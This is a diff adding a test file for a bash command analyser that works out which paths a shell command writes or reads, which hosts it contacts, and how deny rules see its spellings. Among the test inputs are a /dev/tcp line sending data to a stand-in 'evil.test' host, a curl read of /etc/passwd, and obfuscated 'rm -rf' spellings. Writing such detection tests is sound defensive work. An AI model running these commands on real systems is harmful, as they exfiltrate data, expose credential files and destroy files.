@@ -1,0 +1,326 @@
+// What is said of commands besides their class: targets with extents, hosts, spellings, what is at the top.
+import { describe, expect, test } from 'vitest';
+import { analyse } from '../../../src/bash/analyse.ts';
+import type { BashClass, BashFacts } from '../../../src/bash/types.ts';
+import { context } from './corpora.ts';
+
+const paths = (list: BashFacts['writes']) => [
+  ...new Set(list.map((t) => (t.extent === 'one' ? t.path : `${t.path} (${t.extent})`))),
+];
+
+const WRITES: [string, string[]][] = [
+  ['echo x > a', ['/p/a']],
+  ['echo x >> "a b"', ['/p/a b']],
+  ['echo x > /etc/x', ['/etc/x']],
+  ['echo x > ~/x', ['/home/u/x']],
+  ['echo x > $HOME/x', ['/home/u/x']],
+  ['echo x > ./../y', ['/p/./../y']],
+  ['f=out; echo x > $f', ['/p/out']],
+  ['f=out; echo x > "$f.txt"', ['/p/out.txt']],
+  ['echo x > /dev/null', []],
+  ['ls 2>&1 >&- 2>/dev/stderr', []],
+  ['sed -i s/a/b/ x y', ['/p/x', '/p/y']],
+  ['sed -i.bak s/a/b/ d/x', ['/p/d/x', '/p/d/x.bak']],
+  ["sed -n 'w out' x", ['/p/out']],
+  ["sed 's/a/b/w out' x", ['/p/out']],
+  ['cp a b', ['/p/b', '/p/b/a']],
+  ['cp -r src dst', ['/p/dst (deep)', '/p/dst/src (deep)']],
+  ['cp a b d/', ['/p/d/a', '/p/d/b']],
+  ['cp -t d a b', ['/p/d/a', '/p/d/b']],
+  ['cp -T a b', ['/p/b']],
+  ['cp -l a b', ['/p/a', '/p/b', '/p/b/a']],
+  ['cp ./*.ts d', ['/p/d/*.ts (glob)']],
+  ['mv a b', ['/p/a (deep)', '/p/b (deep)', '/p/b/a (deep)']],
+  ['ln a b', ['/p/a (deep)', '/p/b (deep)', '/p/b/a (deep)']],
+  ['ln -s a b', ['/p/b (deep)', '/p/b/a (deep)']],
+  ['rm a', ['/p/a']],
+  ['rm -rf src', ['/p/src (deep)']],
+  ['rm *.log', ['/p/*.log (glob)']],
+  ['rm /dev/null', ['/dev/null']],
+  ['touch a b', ['/p/a', '/p/b']],
+  ['mkdir -p a/b', ['/p/a/b']],
+  ['rmdir a', ['/p/a']],
+  ['install -m 755 a b', ['/p/b', '/p/b/a']],
+  ['truncate -s 0 a', ['/p/a']],
+  ['dd if=a of=b bs=1', ['/p/b']],
+  ['tee -a a b', ['/p/a', '/p/b']],
+  ['chmod -R u+x d', ['/p/d (deep)']],
+  ['chmod -x d', ['/p/d']],
+  ['chown me d', ['/p/d']],
+  ['sort -uo out in', ['/p/out']],
+  ['uniq in out', ['/p/out']],
+  ['curl -so out https://a.b/c', ['/p/out']],
+  ['curl -O https://a.b/c.tgz', ['/p/c.tgz']],
+  ['wget -qO out https://a.b/c', ['/p/out']],
+  ['tar xzf a.tgz -C out', ['/p/out (deep)']],
+  ['tar xf a.tar', ['/p/. (deep)']],
+  ['tar czf a.tgz src', ['/p/a.tgz']],
+  ['unzip a.zip -d out', ['/p/out (deep)']],
+  ['rsync -a src/ dst/', ['/p/dst/ (deep)']],
+  ['git checkout -- src/a', ['/p/src/a (deep)']],
+  ['git restore .', ['/p/. (deep)']],
+  ["git restore 'src/*.ts'", ['/p/src/ (deep)']],
+  ['git rm -r src', ['/p/src (deep)']],
+  ['git mv a b', ['/p/a (deep)', '/p/b (deep)', '/p/b/a (deep)']],
+  ['git clean -fd src', ['/p/src (deep)']],
+  ['git clean -fd', ['/p/. (deep)']],
+  ['git config a.b c', ['/p/.git/config']],
+  ['git config --global a.b c', ['/home/u/.gitconfig']],
+  ['git commit -m x', []],
+  ['git add .', []],
+  ['find src -name x -delete', ['/p/src (deep)']],
+  ['find src -exec rm {} +', ['/p/src (deep)']],
+  ['find src -fprint out', ['/p/out']],
+  ['cd src && touch a', ['/p/src/a']],
+  ['cd src; touch a', ['/p/src/a', '/p/a']],
+  ['cd src || exit 1; touch a', ['/p/src/a']],
+  ['cd src && cd .. && touch a', ['/p/a']],
+  ['(cd src && touch a); touch b', ['/p/src/a', '/p/b']],
+  ['cd /p && touch a; touch b', ['/p/a', '/p/b']],
+  ['if cd src; then touch a; fi', ['/p/src/a']],
+  ['for f in a b; do touch $f; done', ['/p/a', '/p/b']],
+  ['f() { touch "$1"; }; f a; f b', ['/p/a', '/p/b']],
+  ["bash -c 'touch a'", ['/p/a']],
+  ["cd src && bash -c 'touch a'", ['/p/src/a']],
+  ['env -C src touch a', ['/p/src/a']],
+  ['{ echo a; echo b; } > out', ['/p/out']],
+  ['exec > out', ['/p/out']],
+  ['cat <<EOF > out\nx\nEOF', ['/p/out']],
+  ['ls | tee >(cat > out)', ['/p/out']],
+  ['split -l 5 a part-', ['/p/part-* (glob)']],
+  ['gzip a', ['/p/a', '/p/a.gz']],
+];
+
+const UNKNOWN_TARGET = [
+  'echo x > $y',
+  'cd $d && touch a',
+  'cd - && touch a',
+  'touch $(ls)',
+  'sed -i s/a/b/ $(git ls-files)',
+  'ls | xargs rm',
+  'rm "$1"',
+  'cp a "$x"',
+  'mv $x y',
+  'git restore :/',
+  'patch -p1 < x',
+  'git apply x',
+  'git stash',
+  'git switch x',
+  'git pull',
+  'cd "$(ls)" && git commit -m x',
+];
+
+describe('write targets', () => {
+  test.each(WRITES)('%s', (command, expected) => {
+    const facts = analyse(command, context);
+    expect(facts.uncertain).toEqual([]);
+    expect(paths(facts.writes).sort()).toEqual([...expected].sort());
+    for (const w of facts.writes) {
+      expect(facts.commands[w.command]).toBeDefined();
+      expect(facts.commands[w.command]!.class).toBe('writes');
+    }
+  });
+
+  test.each(UNKNOWN_TARGET)('%s may write anywhere', (command) => {
+    const facts = analyse(command, context);
+    expect(facts.class).toBe('unknown');
+    expect(facts.uncertain.length).toBeGreaterThan(0);
+  });
+});
+
+describe('reads', () => {
+  test.each<[string, string[]]>([
+    ['cat a b', ['/p/a', '/p/b']],
+    ['cat < a', ['/p/a']],
+    ['grep -rn x src', ['/p/src (deep)']],
+    ['grep x a', ['/p/a']],
+    ['rg x', ['/p/. (deep)']],
+    ['head -5 *.ts', ['/p/*.ts (glob)']],
+    ['find src -exec cat {} +', ['/p/src', '/p/src (deep)']],
+    ['diff a b', ['/p/a', '/p/b']],
+    ['jq .x a.json', ['/p/a.json']],
+    ['cd src && cat a', ['/p/src/a']],
+    ['source a', ['/p/a']],
+    ['python3 a.py', ['/p/a.py']],
+    ['curl file:///etc/passwd', ['/etc/passwd']],
+    ['git blame a', ['/p/a']],
+    ['tar tf a.tar', ['/p/a.tar']],
+  ])('%s', (command, expected) => {
+    expect(paths(analyse(command, context).reads).sort()).toEqual([...expected].sort());
+  });
+
+  test('listing names is not reading contents', () => {
+    expect(analyse('ls src', context).reads).toEqual([{ path: '/p/src', extent: 'one', via: 'ls', command: 0, listing: true }]);
+    expect(analyse('cat src/a', context).reads[0]!.listing).toBeUndefined();
+  });
+});
+
+describe('network', () => {
+  test.each<[string, string[]]>([
+    ['curl -s https://API.example.com./x', ['api.example.com']],
+    ['curl example.com', ['example.com']],
+    ['curl http://u:p@h:8080/x', ['h']],
+    ['git push', []],
+    ['git fetch origin', []],
+    ['git clone git@github.com:a/b.git', ['github.com']],
+    ['git ls-remote https://github.com/a/b', ['github.com']],
+    ['npm install', []],
+    ['gh pr list', []],
+    ['echo x > /dev/tcp/evil.test/80', ['evil.test']],
+    ['ssh h ls', []],
+  ])('%s', (command, hosts) => {
+    const facts = analyse(command, context);
+    expect(facts.network).toBe(true);
+    expect(facts.hosts).toEqual(hosts);
+  });
+
+  test('what stays here reaches nothing', () => {
+    expect(analyse('ls; git status; npm test', context).network).toBe(false);
+  });
+});
+
+describe('classes', () => {
+  test.each<[string, BashClass]>([
+    ['npm test', 'runs'],
+    ['npm run build && ls', 'runs'],
+    ['make', 'runs'],
+    ['python3 a.py', 'runs'],
+    ['./gradlew build', 'runs'],
+    ['/p/node_modules/.bin/vitest', 'runs'],
+    ['pytest -q > out', 'runs'],
+    ['pytest; frobnicate', 'unknown'],
+    ['ls; rm a', 'writes'],
+    ['', 'read-only'],
+    ['   \n', 'read-only'],
+    ['# only a comment', 'read-only'],
+    ['git status', 'read-only'],
+    ['cd sub && git status', 'unknown'],
+    ['cd / && git status', 'read-only'],
+  ])('%s is %s', (command, cls) => {
+    expect(analyse(command, context).class).toBe(cls);
+  });
+});
+
+describe('commands', () => {
+  const parts = (command: string) => analyse(command, context).commands.map((c) => [c.text, c.top] as const);
+
+  test.each<[string, [string, boolean][]]>([
+    [
+      'ls && npm test',
+      [
+        ['ls', true],
+        ['npm test', true],
+      ],
+    ],
+    ['timeout 5 npm test', [['npm test', true]]],
+    ['nohup nice -n 5 npm test', [['npm test', true]]],
+    ['time -p npm test', [['npm test', true]]],
+    ['xargs npm test', [['npm test', true]]],
+    ['xargs -n1 npm test', [['npm test', false]]],
+    ['env A=1 npm test', [['npm test', false]]],
+    ['sudo npm test', [['npm test', false]]],
+    ['LC_ALL=C npm test', [['npm test', true]]],
+    ['FOO=1 npm test', [['npm test', false]]],
+    [
+      'echo $(npm test)',
+      [
+        ['echo $(npm test)', true],
+        ['npm test', false],
+      ],
+    ],
+    [
+      "bash -c 'npm test'",
+      [
+        ["bash -c 'npm test'", true],
+        ['npm test', false],
+      ],
+    ],
+    [
+      'f() { npm test; }; f',
+      [
+        ['f', true],
+        ['npm test', false],
+      ],
+    ],
+    [
+      'find . -exec rm {} \\;',
+      [
+        ["find . -exec rm {} ';'", true],
+        ['rm {}', false],
+      ],
+    ],
+    [
+      'if true; then npm test; fi',
+      [
+        ['true', true],
+        ['npm test', true],
+      ],
+    ],
+    ['(npm test)', [['npm test', true]]],
+    ['echo \'a b\' "c"', [["echo 'a b' c", true]]],
+    ["git commit -m 'it''s'", [['git commit -m its', true]]],
+    ['rm *.log', [['rm *.log', true]]],
+    ["rm '*.log'", [["rm '*.log'", true]]],
+    ['r"m" -rf src', [['rm -rf src', true]]],
+    ['rm $x', [['rm $x', true]]],
+    ['x=rm; $x src', [['rm src', true]]],
+    ['x=5', []],
+  ])('%s', (command, expected) => {
+    expect(parts(command)).toEqual(expected);
+  });
+
+  test.each<[string, string[]]>([
+    ['/bin/rm x', ['rm x']],
+    ["rm 'a b'", ['rm a b']],
+    ['timeout 5 rm x', ['timeout 5 rm x']],
+    ['FOO=1 rm x', ['FOO=1 rm x']],
+    ['env A=1 rm x', ['env A=1 rm x']],
+    ["sudo /bin/rm 'a b'", ["sudo /bin/rm 'a b'", 'rm a b', "rm 'a b'"]],
+  ])('deny rules also see %s as', (command, expected) => {
+    const [part] = analyse(command, context).commands;
+    for (const e of expected) expect(part!.spellings).toContain(e);
+    expect(part!.spellings).not.toContain(part!.text);
+    expect(new Set(part!.spellings).size).toBe(part!.spellings.length);
+  });
+
+  test('words that are not known are null', () => {
+    expect(analyse('rm -rf $x "a$y" b', context).commands[0]!.argv).toEqual(['rm', '-rf', null, null, 'b']);
+    expect(analyse('ls | xargs rm -f', context).commands[1]!.argv).toEqual(['rm', '-f', null]);
+    expect(analyse('for f in a b; do rm $f; done', context).commands[0]!.argv).toEqual(['rm', null]);
+  });
+
+  test('reasons point at their words', () => {
+    const command = 'ls && sort -o out in';
+    const [why] = analyse(command, context).commands[1]!.why;
+    expect(why!.text).toBe('sort -o writes to a file');
+    expect(command.slice(why!.pos, why!.end)).toBe('out');
+  });
+});
+
+describe('commands that the project declares', () => {
+  const declared = (trusted: boolean) => ({
+    ...context,
+    commands: [
+      { match: 'mytool show *', class: 'read-only' as const, reads: [1], trusted },
+      { match: 'mytool fix *', class: 'writes' as const, writes: 'all' as const, trusted },
+      { match: 'ls', class: 'unknown' as const, trusted },
+    ],
+  });
+
+  test('with trust they replace what is known', () => {
+    expect(analyse('mytool show a --long', declared(true))).toMatchObject({ class: 'read-only', reads: [{ path: '/p/a' }] });
+    expect(analyse('mytool fix a b', declared(true)).writes.map((w) => w.path)).toEqual(['/p/a', '/p/b']);
+    expect(analyse('mytool other', declared(true)).class).toBe('unknown');
+    expect(analyse('ls', declared(true)).class).toBe('unknown');
+  });
+
+  test('without trust they can only be stricter', () => {
+    expect(analyse('mytool show a', declared(false)).class).toBe('unknown');
+    expect(analyse('ls', declared(false)).class).toBe('unknown');
+    expect(analyse('ls -la', declared(false)).class).toBe('read-only');
+  });
+
+  test('a function of the same name is what runs', () => {
+    expect(analyse('mytool() { rm x; }; mytool show a', declared(true)).class).toBe('writes');
+  });
+});
